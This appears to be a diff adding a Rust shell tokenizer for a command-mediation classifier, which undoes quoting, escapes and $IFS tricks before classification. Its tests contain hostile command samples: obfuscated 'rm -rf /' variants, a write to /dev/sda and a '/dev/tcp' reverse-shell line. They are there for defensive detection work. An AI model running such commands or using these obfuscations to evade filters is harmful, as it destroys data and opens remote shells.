@@ -1,0 +1,794 @@
+//! The shell tokenizer of exec mediation: turns a command line into words, operators and
+//! redirections the way a POSIX shell (bash dialect) would, so that the classifier sees the
+//! words the shell would execute rather than the characters the extension wrote.
+//!
+//! Normalisations done here (DESIGN §2 step 6):
+//! - single quotes, double quotes (with their four escapes), `$'…'` ANSI-C strings (`\n`, `\xHH`,
+//!   octal, `\uHHHH`, `\cX`…), `$"…"`, backslash escapes and line continuations are removed, so
+//!   `r''m`, `r""m`, `\rm` and `$'\x72m'` all read `rm`;
+//! - unquoted `$IFS` / `${IFS}` / `${IFS:0:1}` split words, quoted they read as a space;
+//!   `${PATH:0:1}` and `${HOME:0:1}` read `/`; `${NAME…}` reads `$NAME`;
+//! - `$(…)`, backticks, `<(…)` and `>(…)` become substitutions: the word holds [`SUB_MARK`]
+//!   and the body is kept for recursive classification;
+//! - heredoc bodies (`<<EOF`, `<<-EOF`, quoted delimiters) and here-strings are attached to
+//!   their redirection;
+//! - unquoted `{`, `,`, `}` positions are remembered for brace expansion.
+//!
+//! The tokenizer never fails: an unterminated quote or substitution runs to the end of input.
+//! Work is linear in the input except for substitution bodies, which are re-read by the
+//! recursive classifier under its own depth and byte budget.
+
+/// Stands in a word for the output of a substitution whose value is unknown.
+pub(crate) const SUB_MARK: char = '\u{FFFC}';
+
+/// One shell word after quote removal.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct Word {
+    /// The text after quote removal and expansion normalisation.
+    pub text: String,
+    /// Some part of the word was quoted or escaped (no word splitting, no reserved word).
+    pub quoted: bool,
+    /// Indices into [`Lexed::subs`] of the substitutions, in the order of their marks.
+    pub subs: Vec<usize>,
+    /// Byte offsets in `text` of unquoted `{`, `,` and `}` (brace expansion candidates).
+    pub braces: Vec<(usize, char)>,
+}
+
+/// Control operators.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Op {
+    /// `;`, `;;`, newline.
+    Seq,
+    /// `&&`.
+    And,
+    /// `||`.
+    Or,
+    /// `|`, `|&`.
+    Pipe,
+    /// `&`.
+    Background,
+    /// `(`.
+    Open,
+    /// `)`.
+    Close,
+}
+
+/// Redirection operators.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum RedirKind {
+    /// `>`, `>|`, `&>`, `>& file`.
+    Out,
+    /// `>>`, `&>>`.
+    Append,
+    /// `<`.
+    In,
+    /// `<>`.
+    ReadWrite,
+    /// `>&N`, `<&N`.
+    Dup,
+    /// `<<`, `<<-`.
+    HereDoc,
+    /// `<<<`.
+    HereString,
+}
+
+/// One redirection with its target word (and heredoc body).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Redir {
+    pub kind: RedirKind,
+    pub target: Word,
+    pub body: Option<String>,
+}
+
+/// What a substitution was written as.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum SubKind {
+    /// `$(…)` or backticks.
+    Command,
+    /// `<(…)` or `>(…)`.
+    Process,
+}
+
+/// A substitution body, classified recursively.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Sub {
+    pub kind: SubKind,
+    pub body: String,
+}
+
+/// One token.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Token {
+    Word(Word),
+    Op(Op),
+    Redir(Redir),
+}
+
+/// A tokenized command line.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct Lexed {
+    pub tokens: Vec<Token>,
+    pub subs: Vec<Sub>,
+}
+
+/// Interprets ANSI-C backslash escapes in `text` (as `echo -e`, `printf` and `$'…'` do).
+pub(crate) fn unescape(text: &str) -> String {
+    let mut lexer = Lexer {
+        s: text.chars().collect(),
+        i: 0,
+        out: Lexed::default(),
+        pending: Vec::new(),
+    };
+    let mut out = String::with_capacity(text.len());
+    while let Some(c) = lexer.peek(0) {
+        lexer.i += 1;
+        if c == '\\' {
+            if let Some(d) = lexer.escape() {
+                out.push(d);
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+/// Tokenizes `src`. Never fails, never panics.
+pub(crate) fn lex(src: &str) -> Lexed {
+    let mut lexer = Lexer {
+        s: src.chars().collect(),
+        i: 0,
+        out: Lexed::default(),
+        pending: Vec::new(),
+    };
+    lexer.run();
+    lexer.out
+}
+
+struct Lexer {
+    s: Vec<char>,
+    i: usize,
+    out: Lexed,
+    /// Heredocs whose body starts after the next newline: (token index, delimiter, strip tabs).
+    pending: Vec<(usize, String, bool)>,
+}
+
+/// What reading one piece of a word asked for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Piece {
+    Continue,
+    /// An unquoted `$IFS`: end the word here.
+    Split,
+}
+
+#[derive(Default)]
+struct WordBuf {
+    word: Word,
+    started: bool,
+}
+
+impl WordBuf {
+    fn push(&mut self, c: char) {
+        self.started = true;
+        self.word.text.push(c);
+    }
+
+    fn push_str(&mut self, s: &str) {
+        self.started = true;
+        self.word.text.push_str(s);
+    }
+
+    fn quoted(&mut self) {
+        self.started = true;
+        self.word.quoted = true;
+    }
+
+    fn take(&mut self) -> Option<Word> {
+        let buf = std::mem::take(self);
+        buf.started.then_some(buf.word)
+    }
+
+    /// An unquoted all-digit word just before `<` / `>` is a file descriptor number.
+    fn is_fd(&self) -> bool {
+        self.started
+            && !self.word.quoted
+            && !self.word.text.is_empty()
+            && self.word.text.len() <= 4
+            && self.word.text.bytes().all(|b| b.is_ascii_digit())
+    }
+}
+
+fn is_blank(c: char) -> bool {
+    matches!(c, ' ' | '\t' | '\r')
+}
+
+fn ends_word(c: char) -> bool {
+    is_blank(c) || matches!(c, '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>')
+}
+
+impl Lexer {
+    fn peek(&self, ahead: usize) -> Option<char> {
+        self.s.get(self.i + ahead).copied()
+    }
+
+    fn slice(&self, from: usize, to: usize) -> String {
+        self.s
+            .get(from..to.min(self.s.len()))
+            .map_or_else(String::new, |cs| cs.iter().collect())
+    }
+
+    fn flush(&mut self, cur: &mut WordBuf) {
+        if let Some(word) = cur.take() {
+            self.out.tokens.push(Token::Word(word));
+        }
+    }
+
+    fn op(&mut self, op: Op, len: usize) {
+        self.i += len;
+        self.out.tokens.push(Token::Op(op));
+    }
+
+    fn run(&mut self) {
+        let mut cur = WordBuf::default();
+        while let Some(c) = self.peek(0) {
+            match c {
+                _ if is_blank(c) => {
+                    self.flush(&mut cur);
+                    self.i += 1;
+                }
+                '\n' => {
+                    self.flush(&mut cur);
+                    self.op(Op::Seq, 1);
+                    self.read_heredocs();
+                }
+                '#' if !cur.started => {
+                    while self.peek(0).is_some_and(|c| c != '\n') {
+                        self.i += 1;
+                    }
+                }
+                ';' => {
+                    self.flush(&mut cur);
+                    let len = match (self.peek(1), self.peek(2)) {
+                        (Some(';'), Some('&')) => 3,
+                        (Some(';' | '&'), _) => 2,
+                        _ => 1,
+                    };
+                    self.op(Op::Seq, len);
+                }
+                '&' => {
+                    self.flush(&mut cur);
+                    match self.peek(1) {
+                        Some('&') => self.op(Op::And, 2),
+                        Some('>') => {
+                            self.i += 1;
+                            self.redirect();
+                        }
+                        _ => self.op(Op::Background, 1),
+                    }
+                }
+                '|' => {
+                    self.flush(&mut cur);
+                    match self.peek(1) {
+                        Some('|') => self.op(Op::Or, 2),
+                        Some('&') => self.op(Op::Pipe, 2),
+                        _ => self.op(Op::Pipe, 1),
+                    }
+                }
+                '(' => {
+                    self.flush(&mut cur);
+                    self.op(Op::Open, 1);
+                }
+                ')' => {
+                    self.flush(&mut cur);
+                    self.op(Op::Close, 1);
+                }
+                '<' | '>' if self.peek(1) == Some('(') => {
+                    self.i += 1;
+                    self.command_sub(&mut cur, SubKind::Process);
+                }
+                '<' | '>' => {
+                    if cur.is_fd() {
+                        cur = WordBuf::default();
+                    } else {
+                        self.flush(&mut cur);
+                    }
+                    self.redirect();
+                }
+                _ => {
+                    if self.piece(&mut cur) == Piece::Split {
+                        self.flush(&mut cur);
+                    }
+                }
+            }
+        }
+        self.flush(&mut cur);
+    }
+
+    /// Reads one piece of a word at `self.i` (not a word-ending char).
+    fn piece(&mut self, cur: &mut WordBuf) -> Piece {
+        let Some(c) = self.peek(0) else {
+            return Piece::Continue;
+        };
+        match c {
+            '\\' => {
+                match self.peek(1) {
+                    Some('\n') => {}
+                    Some(next) => {
+                        cur.quoted();
+                        cur.push(next);
+                    }
+                    None => cur.push('\\'),
+                }
+                self.i += 2;
+            }
+            '\'' => {
+                cur.quoted();
+                self.i += 1;
+                while let Some(c) = self.peek(0) {
+                    self.i += 1;
+                    if c == '\'' {
+                        break;
+                    }
+                    cur.push(c);
+                }
+            }
+            '"' => self.double_quoted(cur),
+            '$' => return self.dollar(cur, false),
+            '`' => self.backtick(cur),
+            '{' | ',' | '}' => {
+                cur.word.braces.push((cur.word.text.len(), c));
+                cur.push(c);
+                self.i += 1;
+            }
+            _ => {
+                cur.push(c);
+                self.i += 1;
+            }
+        }
+        Piece::Continue
+    }
+
+    fn double_quoted(&mut self, cur: &mut WordBuf) {
+        cur.quoted();
+        self.i += 1;
+        while let Some(c) = self.peek(0) {
+            match c {
+                '"' => {
+                    self.i += 1;
+                    return;
+                }
+                '\\' => match self.peek(1) {
+                    Some(e @ ('$' | '`' | '"' | '\\')) => {
+                        cur.push(e);
+                        self.i += 2;
+                    }
+                    Some('\n') => self.i += 2,
+                    _ => {
+                        cur.push('\\');
+                        self.i += 1;
+                    }
+                },
+                '$' => {
+                    let _ = self.dollar(cur, true);
+                }
+                '`' => self.backtick(cur),
+                _ => {
+                    cur.push(c);
+                    self.i += 1;
+                }
+            }
+        }
+    }
+
+    /// At `$`.
+    fn dollar(&mut self, cur: &mut WordBuf, in_quotes: bool) -> Piece {
+        match self.peek(1) {
+            Some('\'') if !in_quotes => {
+                self.i += 1;
+                self.ansi_c(cur);
+                Piece::Continue
+            }
+            Some('"') if !in_quotes => {
+                self.i += 1;
+                self.double_quoted(cur);
+                Piece::Continue
+            }
+            Some('(') if self.peek(2) == Some('(') => {
+                // Arithmetic `$((…))`: kept as text, never executed.
+                let start = self.i;
+                let end = self.matching_paren(self.i + 1).unwrap_or(self.s.len());
+                let text = self.slice(start, end + 1);
+                cur.push_str(&text);
+                self.i = end + 1;
+                Piece::Continue
+            }
+            Some('(') => {
+                self.i += 1;
+                self.command_sub(cur, SubKind::Command);
+                Piece::Continue
+            }
+            Some('{') => {
+                let start = self.i + 2;
+                let mut end = start;
+                while self.s.get(end).is_some_and(|&c| c != '}') {
+                    end += 1;
+                }
+                let inner = self.slice(start, end);
+                self.i = end + 1;
+                self.parameter(cur, &inner, in_quotes)
+            }
+            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
+                let start = self.i + 1;
+                let mut end = start;
+                while self
+                    .s
+                    .get(end)
+                    .is_some_and(|&c| c.is_ascii_alphanumeric() || c == '_')
+                {
+                    end += 1;
+                }
+                let name = self.slice(start, end);
+                self.i = end;
+                self.parameter(cur, &name, in_quotes)
+            }
+            Some(c)
+                if c.is_ascii_digit() || matches!(c, '@' | '*' | '#' | '?' | '$' | '!' | '-') =>
+            {
+                cur.push('$');
+                cur.push(c);
+                self.i += 2;
+                Piece::Continue
+            }
+            _ => {
+                cur.push('$');
+                self.i += 1;
+                Piece::Continue
+            }
+        }
+    }
+
+    /// A parameter expansion `$name` / `${expr}` (`expr` without the braces).
+    fn parameter(&mut self, cur: &mut WordBuf, expr: &str, in_quotes: bool) -> Piece {
+        let name_len = expr
+            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .unwrap_or(expr.len());
+        let (name, rest) = expr.split_at(name_len);
+        if name == "IFS" {
+            if in_quotes {
+                cur.push(' ');
+                return Piece::Continue;
+            }
+            return Piece::Split;
+        }
+        if matches!(name, "PATH" | "HOME" | "PWD") && rest.starts_with(":0:1") {
+            cur.push('/');
+            return Piece::Continue;
+        }
+        if name.is_empty() {
+            cur.push_str("${");
+            cur.push_str(expr);
+            cur.push('}');
+        } else {
+            cur.push('$');
+            cur.push_str(name);
+        }
+        Piece::Continue
+    }
+
+    /// At `'` after `$`.
+    fn ansi_c(&mut self, cur: &mut WordBuf) {
+        cur.quoted();
+        self.i += 1;
+        while let Some(c) = self.peek(0) {
+            self.i += 1;
+            match c {
+                '\'' => return,
+                '\\' => {
+                    if let Some(d) = self.escape() {
+                        cur.push(d);
+                    }
+                }
+                _ => cur.push(c),
+            }
+        }
+    }
+
+    /// After a backslash in ANSI-C text: the escaped char (a lone trailing backslash reads as
+    /// itself).
+    fn escape(&mut self) -> Option<char> {
+        let Some(e) = self.peek(0) else {
+            return Some('\\');
+        };
+        self.i += 1;
+        match e {
+            'n' => Some('\n'),
+            't' => Some('\t'),
+            'r' => Some('\r'),
+            'a' => Some('\u{7}'),
+            'b' => Some('\u{8}'),
+            'e' | 'E' => Some('\u{1b}'),
+            'f' => Some('\u{c}'),
+            'v' => Some('\u{b}'),
+            'x' => self.radix_char(16, 2),
+            'u' => self.radix_char(16, 4),
+            'U' => self.radix_char(16, 8),
+            '0'..='7' => {
+                self.i -= 1;
+                self.radix_char(8, 3)
+            }
+            'c' => {
+                let ctl = self
+                    .peek(0)
+                    .and_then(|c| char::from_u32(u32::from(c) & 0x1f));
+                self.i += 1;
+                ctl
+            }
+            other => Some(other),
+        }
+    }
+
+    /// Up to `max` digits of `radix` at `self.i`, as a char.
+    fn radix_char(&mut self, radix: u32, max: usize) -> Option<char> {
+        let mut value: u32 = 0;
+        let mut n = 0;
+        while n < max {
+            let Some(d) = self.peek(0).and_then(|c| c.to_digit(radix)) else {
+                break;
+            };
+            value = value.saturating_mul(radix).saturating_add(d);
+            self.i += 1;
+            n += 1;
+        }
+        if n == 0 {
+            return None;
+        }
+        char::from_u32(value)
+    }
+
+    /// At `(` of `$(`, `<(` or `>(`.
+    fn command_sub(&mut self, cur: &mut WordBuf, kind: SubKind) {
+        let open = self.i;
+        let end = self.matching_paren(open).unwrap_or(self.s.len());
+        let body = self.slice(open + 1, end);
+        self.i = end + 1;
+        self.push_sub(cur, kind, body);
+    }
+
+    fn push_sub(&mut self, cur: &mut WordBuf, kind: SubKind, body: String) {
+        cur.word.subs.push(self.out.subs.len());
+        self.out.subs.push(Sub { kind, body });
+        cur.push(SUB_MARK);
+    }
+
+    /// At a backtick.
+    fn backtick(&mut self, cur: &mut WordBuf) {
+        self.i += 1;
+        let mut body = String::new();
+        while let Some(c) = self.peek(0) {
+            self.i += 1;
+            match c {
+                '`' => break,
+                '\\' => match self.peek(0) {
+                    Some(e @ ('`' | '\\' | '$')) => {
+                        body.push(e);
+                        self.i += 1;
+                    }
+                    _ => body.push('\\'),
+                },
+                _ => body.push(c),
+            }
+        }
+        self.push_sub(cur, SubKind::Command, body);
+    }
+
+    /// Index of the `)` matching the `(` at `open`, skipping quotes and escapes.
+    fn matching_paren(&self, open: usize) -> Option<usize> {
+        let mut depth = 0usize;
+        let mut j = open;
+        while let Some(&c) = self.s.get(j) {
+            match c {
+                '\\' => j += 1,
+                '\'' => {
+                    j += 1;
+                    while self.s.get(j).is_some_and(|&c| c != '\'') {
+                        j += 1;
+                    }
+                }
+                '"' => {
+                    j += 1;
+                    while let Some(&c) = self.s.get(j) {
+                        match c {
+                            '\\' => j += 1,
+                            '"' => break,
+                            _ => {}
+                        }
+                        j += 1;
+                    }
+                }
+                '(' => depth += 1,
+                ')' => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        return Some(j);
+                    }
+                }
+                _ => {}
+            }
+            j += 1;
+        }
+        None
+    }
+
+    /// At `<` or `>` (after an optional fd number or `&`).
+    fn redirect(&mut self) {
+        let first = self.peek(0);
+        let (kind, len, strip) = match (first, self.peek(1), self.peek(2)) {
+            (Some('>'), Some('>'), _) => (RedirKind::Append, 2, false),
+            (Some('>'), Some('|'), _) => (RedirKind::Out, 2, false),
+            (Some('>'), Some('&'), _) => (RedirKind::Dup, 2, false),
+            (Some('>'), _, _) => (RedirKind::Out, 1, false),
+            (Some('<'), Some('<'), Some('<')) => (RedirKind::HereString, 3, false),
+            (Some('<'), Some('<'), Some('-')) => (RedirKind::HereDoc, 3, true),
+            (Some('<'), Some('<'), _) => (RedirKind::HereDoc, 2, false),
+            (Some('<'), Some('>'), _) => (RedirKind::ReadWrite, 2, false),
+            (Some('<'), Some('&'), _) => (RedirKind::Dup, 2, false),
+            _ => (RedirKind::In, 1, false),
+        };
+        self.i += len;
+        while self.peek(0).is_some_and(is_blank) {
+            self.i += 1;
+        }
+        let target = self.read_word();
+        // `>& file` (not a digit or `-`) sends stdout and stderr to the file.
+        let kind = if kind == RedirKind::Dup
+            && !target.text.is_empty()
+            && !target.text.bytes().all(|b| b.is_ascii_digit() || b == b'-')
+        {
+            RedirKind::Out
+        } else {
+            kind
+        };
+        if kind == RedirKind::HereDoc {
+            self.pending
+                .push((self.out.tokens.len(), target.text.clone(), strip));
+        }
+        self.out.tokens.push(Token::Redir(Redir {
+            kind,
+            target,
+            body: None,
+        }));
+    }
+
+    fn read_word(&mut self) -> Word {
+        let mut cur = WordBuf::default();
+        while let Some(c) = self.peek(0) {
+            if ends_word(c) {
+                break;
+            }
+            if self.piece(&mut cur) == Piece::Split {
+                break;
+            }
+        }
+        cur.word
+    }
+
+    /// After a newline: the bodies of pending heredocs, in order.
+    fn read_heredocs(&mut self) {
+        for (index, delim, strip) in std::mem::take(&mut self.pending) {
+            let mut body = String::new();
+            while self.i < self.s.len() {
+                let start = self.i;
+                while self.peek(0).is_some_and(|c| c != '\n') {
+                    self.i += 1;
+                }
+                let line = self.slice(start, self.i);
+                self.i += 1;
+                let cmp = if strip {
+                    line.trim_start_matches('\t')
+                } else {
+                    line.as_str()
+                };
+                if cmp == delim {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            if let Some(Token::Redir(r)) = self.out.tokens.get_mut(index) {
+                r.body = Some(body);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The words of `src` (operators as `<op>`), for one-line cases.
+    fn check(src: &str, expected: &[&str]) {
+        let lexed = lex(src);
+        let got: Vec<String> = lexed
+            .tokens
+            .iter()
+            .map(|t| match t {
+                Token::Word(w) => w.text.clone(),
+                Token::Op(op) => format!("<{op:?}>"),
+                Token::Redir(r) => format!("<{:?} {}>", r.kind, r.target.text),
+            })
+            .collect();
+        assert_eq!(got, expected, "{src:?}");
+    }
+
+    #[test]
+    fn quotes_and_escapes() {
+        check("r''m -rf /", &["rm", "-rf", "/"]);
+        check("r\"\"m -rf /", &["rm", "-rf", "/"]);
+        check("\\rm -rf /", &["rm", "-rf", "/"]);
+        check("$'\\x72\\x6d' -rf /", &["rm", "-rf", "/"]);
+        check("$'\\162m' x", &["rm", "x"]);
+        check("'a b' \"c $'d'\"", &["a b", "c $'d'"]);
+        check("echo \"a\\\"b\"", &["echo", "a\"b"]);
+        check("a\\\nb", &["ab"]);
+    }
+
+    #[test]
+    fn ifs_and_parameters() {
+        check("rm${IFS}-rf${IFS}/", &["rm", "-rf", "/"]);
+        check("rm$IFS-rf$IFS/", &["rm", "-rf", "/"]);
+        check("\"a${IFS}b\"", &["a b"]);
+        check("rm -rf ${HOME}", &["rm", "-rf", "$HOME"]);
+        check("cd ${PATH:0:1}", &["cd", "/"]);
+        check("echo $1 $@", &["echo", "$1", "$@"]);
+    }
+
+    #[test]
+    fn operators_and_redirections() {
+        check(
+            "a;b&&c||d|e&f",
+            &[
+                "a",
+                "<Seq>",
+                "b",
+                "<And>",
+                "c",
+                "<Or>",
+                "d",
+                "<Pipe>",
+                "e",
+                "<Background>",
+                "f",
+            ],
+        );
+        check("x > /dev/sda 2>&1", &["x", "<Out /dev/sda>", "<Dup 1>"]);
+        check("x &>> log", &["x", "<Append log>"]);
+        check(
+            "bash -i >& /dev/tcp/h/1 0>&1",
+            &["bash", "-i", "<Out /dev/tcp/h/1>", "<Dup 1>"],
+        );
+        check("(a) # comment", &["<Open>", "a", "<Close>"]);
+    }
+
+    #[test]
+    fn substitutions_and_heredocs() {
+        let lexed = lex("echo $(rm -rf /) `id` <(curl x)");
+        let bodies: Vec<&str> = lexed.subs.iter().map(|s| s.body.as_str()).collect();
+        assert_eq!(bodies, ["rm -rf /", "id", "curl x"]);
+        let lexed = lex("cat <<'EOF' > f\nhello $x\nEOF\necho done");
+        let body = lexed.tokens.iter().find_map(|t| match t {
+            Token::Redir(r) => r.body.clone(),
+            _ => None,
+        });
+        assert_eq!(body.as_deref(), Some("hello $x\n"));
+        assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "done"));
+    }
+
+    #[test]
+    fn unterminated_input_never_panics() {
+        for src in [
+            "'", "\"", "$(", "`", "${", "$'\\", "$'\\x", "<<", "a <<E\n", "\\", "$((1",
+        ] {
+            let _ = lex(src);
+        }
+    }
+}
